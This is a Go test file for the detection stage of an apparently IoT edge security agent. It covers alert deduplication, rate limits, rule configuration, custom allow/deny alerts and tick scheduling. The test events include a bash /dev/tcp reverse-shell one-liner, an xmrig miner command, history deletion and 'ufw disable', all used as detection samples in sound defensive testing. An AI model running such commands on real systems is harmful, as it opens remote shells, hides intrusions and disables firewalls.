package detect

import (
	"context"
	"errors"
	"log/slog"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/edgesec/edgesec/event"
	"github.com/edgesec/edgesec/twinconfig"
)

func TestDedupAndCount(t *testing.T) {
	h := newHarness(t, Options{DedupWindow: time.Minute})
	miner := func() event.Event { return proc("/tmp/xmrig", "/tmp/xmrig -o stratum+tcp://198.51.100.7:3333") }
	if n := len(alertsOf(h.feed(miner(), miner(), miner()), RuleCryptoMiner)); n != 1 {
		t.Fatalf("%d alerts, want 1", n)
	}
	h.clock.Add(2 * time.Minute)
	a := alertsOf(h.feed(miner()), RuleCryptoMiner)
	if len(a) != 1 || a[0].Count != 3 {
		t.Fatalf("after the window: %+v (want Count 3: this one and the 2 folded)", a)
	}
	if st := h.s.Stats(); st.Deduplicated != 2 || st.Alerts != 2 {
		t.Errorf("stats %+v", st)
	}
}

func TestRateLimit(t *testing.T) {
	h := newHarness(t, Options{RatePerRule: 3})
	var evs []event.Event
	for i := range 10 {
		evs = append(evs, proc("/tmp/xmrig", "/tmp/xmrig --id "+event.Itoa(i)+" -o stratum+tcp://x"))
	}
	if n := len(alertsOf(h.feed(evs...), RuleCryptoMiner)); n != 3 {
		t.Fatalf("%d alerts, want 3", n)
	}
	if st := h.s.Stats(); st.RateLimited != 7 {
		t.Errorf("RateLimited %d, want 7", st.RateLimited)
	}
	h.clock.Add(time.Minute)
	if n := len(alertsOf(h.feed(proc("/tmp/xmrig", "/tmp/xmrig -o stratum+tcp://y")), RuleCryptoMiner)); n != 1 {
		t.Errorf("after a minute: %d alerts", n)
	}
}

func TestConfigureDisableSeveritySuppress(t *testing.T) {
	h := newHarness(t, Options{})
	err := h.s.Configure(Config{Disabled: []string{RuleClearHistoryFile}, Severity: map[string]string{RuleCryptoMiner: "low"},
		Suppress: []Suppression{{Rule: RuleDisableFirewall, Executable: "ufw"}, {RemoteAddress: "198.51.100.0/24"}}})
	if err != nil {
		t.Fatal(err)
	}
	out := h.feed(proc("/usr/bin/rm", "rm /root/.bash_history"), proc("/tmp/xmrig", "/tmp/xmrig"), proc("/usr/sbin/ufw", "ufw disable"),
		proc("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"))
	if a := alertsOf(out, ""); len(a) != 1 || a[0].AlertType != RuleCryptoMiner || a[0].Severity != event.AlertLow {
		t.Fatalf("%+v", a)
	}
	if st := h.s.Stats(); st.Disabled != 1 || st.Suppressed != 2 {
		t.Errorf("stats %+v", st)
	}
	// A bad configuration is refused as a whole: the last good one stays,
	// and a ConfigurationError is emitted.
	err = h.s.Configure(Config{Disabled: []string{"IoT_NoSuchRule"}, Severity: map[string]string{RuleCryptoMiner: "urgent"}})
	var ce *ConfigError
	if err == nil || !errors.As(err, &ce) {
		t.Fatalf("bad config accepted: %v", err)
	}
	out = h.feed(proc("/usr/bin/rm", "rm /home/pi/.bash_history"))
	if a := alertsOf(out, ""); len(a) != 0 {
		t.Errorf("disabled rule ran after a refused configuration: %+v", a[0])
	}
	var cfgErr []*event.ConfigurationErrorPayload
	for _, ev := range out {
		for _, it := range ev.Payload {
			if p, ok := it.(*event.ConfigurationErrorPayload); ok {
				cfgErr = append(cfgErr, p)
			}
		}
	}
	if len(cfgErr) != 2 || cfgErr[0].ErrorType != event.TypeMismatch {
		t.Errorf("ConfigurationError items: %+v", cfgErr)
	}
}

func TestParseConfig(t *testing.T) {
	c, err := ParseConfig(" IoT_ClearHistoryFile , IoT_FailedLocalLogin", "IoT_CryptoMiner=low", `[{"rule":"IoT_DisableFirewall","executable":"ufw"}]`,
		`[{"type":"ProcessNotAllowed","allow":["sshd"]}]`)
	if err != nil || len(c.Disabled) != 2 || c.Severity["IoT_CryptoMiner"] != "low" || len(c.Suppress) != 1 || len(c.Custom) != 1 {
		t.Fatalf("%+v %v", c, err)
	}
	for _, bad := range [][4]string{{"", "IoT_CryptoMiner", "", ""}, {"", "", "{", ""}, {"", "", "", `[{"type":"ProcessNotAllowed","bogus":1}]`}} {
		if _, err := ParseConfig(bad[0], bad[1], bad[2], bad[3]); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

func intp(n int) *int { return &n }

func TestCustomAlerts(t *testing.T) {
	h := newHarness(t, Options{NoBuiltin: true})
	err := h.s.Configure(Config{Custom: []CustomAlert{
		{Type: CustomProcessNotAllowed, Allow: []string{"bash", "sshd", "/usr/lib/systemd/*"}},
		{Type: CustomConnectionToIPNotAllowed, Allow: []string{"10.0.0.0/8"}},
		{Type: CustomConnectionFromIPNotAllowed, Deny: []string{"203.0.113.0/24"}},
		{Type: CustomLocalUserNotAllowed, Allow: []string{"admin"}},
		{Type: CustomFailedLocalLoginsNotInAllowedRange, Min: intp(0), Max: intp(2), Window: "PT5M"},
		{Type: CustomProcessesNotInAllowedRange, Min: intp(1), Max: intp(100), Window: "PT5M"},
	}})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		rule     string
		pos, neg event.Event
	}{
		{"Custom_" + CustomProcessNotAllowed, proc("/tmp/foo", "/tmp/foo"), proc("/usr/bin/bash", "bash")},
		{"Custom_" + CustomProcessNotAllowed, proc("/usr/bin/python3", "python3"), proc("/usr/lib/systemd/systemd-udevd", "udevd")},
		{"Custom_" + CustomConnectionToIPNotAllowed, conn(event.DirectionOut, "/usr/bin/curl", "203.0.113.5"), conn(event.DirectionOut, "/usr/bin/curl", "10.1.2.3")},
		{"Custom_" + CustomConnectionToIPNotAllowed, conn(event.DirectionOut, "/usr/bin/curl", "2001:db8::5"), conn(event.DirectionOut, "/usr/bin/curl", "127.0.0.1")},
		{"Custom_" + CustomConnectionFromIPNotAllowed, conn(event.DirectionIn, "/usr/sbin/sshd", "203.0.113.5"), conn(event.DirectionIn, "/usr/sbin/sshd", "198.51.100.5")},
		{"Custom_" + CustomLocalUserNotAllowed, login(event.LoginSuccess, "testuser", "192.0.2.1"), login(event.LoginSuccess, "admin", "192.0.2.1")},
	}
	for _, c := range cases {
		if a := alertsOf(h.feed(c.pos), c.rule); len(a) != 1 || a[0].Severity != event.AlertLow {
			t.Errorf("%s positive: %+v", c.rule, a)
		}
		if a := alertsOf(h.feed(c.neg), c.rule); len(a) != 0 {
			t.Errorf("%s negative: %+v", c.rule, a[0])
		}
	}
	// Range rules: 3 failed logins in the window (max 2) alert when the
	// window closes; a quiet window alerts ProcessesNotInAllowedRange (min 1).
	h.feed(login(event.LoginFail, "x", "192.0.2.1"), login(event.LoginFail, "y", "192.0.2.1"), login(event.LoginFail, "z", "192.0.2.1"))
	h.clock.Add(5 * time.Minute)
	out := h.feed()
	a := alertsOf(out, "Custom_"+CustomFailedLocalLoginsNotInAllowedRange)
	if len(a) != 1 || !strings.HasPrefix(a[0].Description, "3 in the PT5M window") || len(a[0].TriggerEventIDs) != 3 {
		t.Fatalf("failed logins range: %+v", a)
	}
	if a := alertsOf(out, "Custom_"+CustomProcessesNotInAllowedRange); len(a) != 0 {
		t.Errorf("processes in range alerted: %+v", a[0])
	}
	h.clock.Add(5 * time.Minute)
	out = h.feed()
	if a := alertsOf(out, "Custom_"+CustomProcessesNotInAllowedRange); len(a) != 1 || !strings.HasPrefix(a[0].Description, "0 in") {
		t.Errorf("quiet window: %+v", alertsOf(out, ""))
	}
	if a := alertsOf(out, "Custom_"+CustomFailedLocalLoginsNotInAllowedRange); len(a) != 0 {
		t.Errorf("no failures alerted: %+v", a[0])
	}
}

func TestCustomAlertValidation(t *testing.T) {
	bad := [][]CustomAlert{
		{{Type: "ProcessAllowedMaybe", Allow: []string{"x"}}},
		{{Type: CustomProcessNotAllowed}},
		{{Type: CustomProcessNotAllowed, Allow: []string{"a"}, Deny: []string{"b"}}},
		{{Type: CustomConnectionToIPNotAllowed, Allow: []string{"10.0.0.0/33"}}},
		{{Type: CustomFailedLocalLoginsNotInAllowedRange, Min: intp(3), Max: intp(2), Window: "PT5M"}},
		{{Type: CustomFailedLocalLoginsNotInAllowedRange, Min: intp(0), Max: intp(2), Window: "5 minutes"}},
		{{Type: CustomActiveConnectionsNotInAllowedRange, Min: intp(0), Window: "PT5M"}},
	}
	for _, c := range bad {
		h := newHarness(t, Options{})
		if err := h.s.Configure(Config{Custom: c}); err == nil {
			t.Errorf("%+v accepted", c)
		}
	}
	if _, err := New(Options{Config: Config{Custom: bad[0]}}); err == nil {
		t.Error("New accepted a bad configuration")
	}
}

func TestEventsPassUnchanged(t *testing.T) {
	h := newHarness(t, Options{})
	ev := proc("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")
	before := string(ev.AppendJSON(nil))
	cp := ev
	if err := h.s.Process(context.Background(), &cp, func(event.Event) {}); err != nil {
		t.Fatal(err)
	}
	if string(cp.AppendJSON(nil)) != before {
		t.Error("the stage changed the event")
	}
	// The stage ignores alerts (its own included) so it never loops.
	alert := event.Must(event.SecurityAlert, t0, &event.SecurityAlertPayload{AlertType: "X", DisplayName: "x", Severity: "High", Description: "bash -i >& /dev/tcp/1.2.3.4/1"})
	var got []event.Event
	_ = h.s.Process(context.Background(), &alert, func(e event.Event) { got = append(got, e) })
	if len(got) != 0 || h.s.Stats().Events != 1 {
		t.Errorf("alert analysed: %v", got)
	}
}

func TestDuplicateRuleRefused(t *testing.T) {
	if _, err := New(Options{Analyzers: []Analyzer{newProcRules(BuiltinOptions{}, 10)}}); err == nil {
		t.Error("two analyzers declaring IoT_ReverseShell accepted")
	}
}

func TestApplyConfig(t *testing.T) {
	doc := []byte(`{"detectionRulesDisabled": {"value": "IoT_SuccessfulLocalLogin"},
		"customAlerts": {"value": [{"type": "LocalUserNotAllowed", "allow": ["admin"]}]}}`)
	cfg, probs, err := twinconfig.Decode(doc)
	if err != nil || len(probs) != 0 {
		t.Fatalf("%v %v", probs, err)
	}
	h := newHarness(t, Options{})
	if err := h.s.ApplyConfig(cfg); err != nil {
		t.Fatal(err)
	}
	out := h.feed(login(event.LoginSuccess, "eve", "192.0.2.1"))
	if len(alertsOf(out, RuleSuccessfulLocalLogin)) != 0 || len(alertsOf(out, "Custom_LocalUserNotAllowed")) != 1 {
		t.Fatalf("%+v", alertsOf(out, ""))
	}
	// Well-formed for the twin, refused by detect: an unknown custom type.
	bad, probs, _ := twinconfig.Decode([]byte(`{"customAlerts": {"value": [{"type": "ProcessAllowedMaybe", "allow": ["x"]}]}}`))
	if len(probs) != 0 {
		t.Fatal(probs)
	}
	if err := h.s.ApplyConfig(bad); err == nil {
		t.Fatal("accepted")
	}
	out = h.feed(login(event.LoginSuccess, "mallory", "192.0.2.1"))
	if len(alertsOf(out, "Custom_LocalUserNotAllowed")) != 1 || len(alertsOf(out, RuleSuccessfulLocalLogin)) != 0 {
		t.Errorf("the last good configuration was not kept: %+v", alertsOf(out, ""))
	}
	found := false
	for _, ev := range out {
		if ev.Name == event.ConfigurationError && ev.Payload[0].(*event.ConfigurationErrorPayload).ConfigurationName == KeyCustomAlerts {
			found = true
		}
	}
	if !found {
		t.Error("no ConfigurationError for customAlerts")
	}
}

type sinkRec struct {
	mu  sync.Mutex
	evs []event.Event
}

func (r *sinkRec) Emit(_ context.Context, evs ...event.Event) error {
	r.mu.Lock()
	r.evs = append(r.evs, evs...)
	r.mu.Unlock()
	return nil
}

func (r *sinkRec) names() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []string
	for _, ev := range r.evs {
		out = append(out, ev.Name)
	}
	return out
}

// TestRun: the runner ticks (a split snapshot is evaluated, a refused
// configuration is reported) and returns nil when its context ends.
func TestRun(t *testing.T) {
	s, err := New(Options{TickInterval: 5 * time.Millisecond, Logger: slog.New(slog.DiscardHandler), Builtin: BuiltinOptions{SnapshotSettle: time.Millisecond}})
	if err != nil {
		t.Fatal(err)
	}
	rec := &sinkRec{}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx, rec) }()
	ev := snap(event.ListeningPorts, time.Now(), listen("TCP", "0.0.0.0", "8888", "/usr/bin/nc"))
	_ = s.Process(context.Background(), &ev, func(event.Event) {})
	_ = s.Configure(Config{Disabled: []string{"nope"}})
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) && len(rec.names()) < 2 {
		time.Sleep(5 * time.Millisecond)
	}
	cancel()
	if err := <-done; err != nil {
		t.Errorf("Run returned %v", err)
	}
	got := strings.Join(rec.names(), ",")
	if !strings.Contains(got, event.SecurityRecommendation) || !strings.Contains(got, event.ConfigurationError) {
		t.Errorf("sink got %s", got)
	}
}

// countingTicker counts its ticks; as a TickScheduler it is due at due
// (zero: never).
type countingTicker struct {
	mu    sync.Mutex
	ticks int
	at    []time.Time
	due   time.Time
}

func (c *countingTicker) ticksBefore(t time.Time) (n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, at := range c.at {
		if at.Before(t) {
			n++
		}
	}
	return n
}

func (c *countingTicker) tickedAfter(t time.Time) bool { return c.ticksBefore(t) < c.count() }

func (c *countingTicker) Rules() []Rule              { return nil }
func (c *countingTicker) Analyze(*Env, *event.Event) {}
func (c *countingTicker) Tick(env *Env) {
	c.mu.Lock()
	c.ticks++
	c.at = append(c.at, time.Now())
	c.mu.Unlock()
}
func (c *countingTicker) count() int              { c.mu.Lock(); defer c.mu.Unlock(); return c.ticks }
func (c *countingTicker) setDue(t time.Time)      { c.mu.Lock(); c.due = t; c.mu.Unlock() }
func (c *countingTicker) nextTick() (t time.Time) { c.mu.Lock(); defer c.mu.Unlock(); return c.due }

type schedulingTicker struct{ *countingTicker }

func (s schedulingTicker) NextTick() time.Time {
	due := s.nextTick()
	if !due.IsZero() && s.count() > 0 && !time.Now().Before(due) {
		s.setDue(time.Time{}) // done
		return time.Time{}
	}
	return due
}

// runStage runs s until the test ends.
func runStage(t *testing.T, s *Stage) *sinkRec {
	t.Helper()
	rec := &sinkRec{}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx, rec) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Run returned %v", err)
		}
	})
	return rec
}

// TestRunSleepsUntilDue: when every Ticker is a TickScheduler (the
// built-in ones are), Run calls them only when one is due, not every
// TickInterval; a Ticker that is not one is ticked every TickInterval.
func TestRunSleepsUntilDue(t *testing.T) {
	quiet := slog.New(slog.DiscardHandler)
	sched := schedulingTicker{&countingTicker{}}
	s, err := New(Options{TickInterval: 2 * time.Millisecond, Logger: quiet, Analyzers: []Analyzer{sched}})
	if err != nil {
		t.Fatal(err)
	}
	runStage(t, s)
	time.Sleep(100 * time.Millisecond)
	if n := sched.count(); n > 1 {
		t.Errorf("idle: %d ticks in 100 ms, want at most the first", n)
	}
	// Due in 50 ms: ticked then. The configuration wakes Run to ask
	// again (one early tick); no other tick comes before the due time.
	due := time.Now().Add(50 * time.Millisecond)
	sched.setDue(due)
	_ = s.Configure(Config{})
	deadline := time.Now().Add(5 * time.Second)
	for !sched.tickedAfter(due) && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond)
	}
	if !sched.tickedAfter(due) {
		t.Fatal("not ticked when due")
	}
	if n := sched.ticksBefore(due); n > 1 {
		t.Errorf("%d ticks before the due time, want the one the configuration caused", n)
	}

	plain := &countingTicker{}
	s2, err := New(Options{TickInterval: 2 * time.Millisecond, Logger: quiet, Analyzers: []Analyzer{plain}})
	if err != nil {
		t.Fatal(err)
	}
	runStage(t, s2)
	deadline = time.Now().Add(5 * time.Second)
	for plain.count() < 10 && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond)
	}
	if plain.count() < 10 {
		t.Errorf("a Ticker that is not a TickScheduler: %d ticks, want one every TickInterval", plain.count())
	}
}

// TestBuiltinTickersSchedule: the built-in Tickers say when they are due:
// a pending snapshot when it has settled, a range rule when its window
// closes.
func TestBuiltinTickersSchedule(t *testing.T) {
	now := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	one, five, start := 1, 5, now
	s, err := New(Options{Clock: func() time.Time { return now }, Builtin: BuiltinOptions{SnapshotSettle: time.Second},
		Config: Config{Custom: []CustomAlert{{Type: CustomProcessesNotInAllowedRange, Min: &one, Max: &five, Window: "PT5M"}}}})
	if err != nil {
		t.Fatal(err)
	}
	s.mu.Lock()
	if got, want := s.nextTick(), now.Add(5*time.Minute); !got.Equal(want) {
		t.Errorf("range rule: next tick %v, want %v", got, want)
	}
	s.mu.Unlock()
	now = now.Add(time.Minute)
	ev := snap(event.ListeningPorts, now, listen("TCP", "0.0.0.0", "8888", "/usr/bin/nc"))
	_ = s.Process(context.Background(), &ev, func(event.Event) {})
	s.mu.Lock()
	if got, want := s.nextTick(), now.Add(time.Second); !got.Equal(want) {
		t.Errorf("pending snapshot: next tick %v, want %v", got, want)
	}
	s.mu.Unlock()
	now = now.Add(time.Second)
	if evs := s.Tick(); len(evs) == 0 {
		t.Error("the settled snapshot was not evaluated")
	}
	s.mu.Lock()
	if got, want := s.nextTick(), start.Add(5*time.Minute); !got.Equal(want) {
		t.Errorf("after the snapshot: next tick %v, want the range rule's %v", got, want)
	}
	s.mu.Unlock()
}
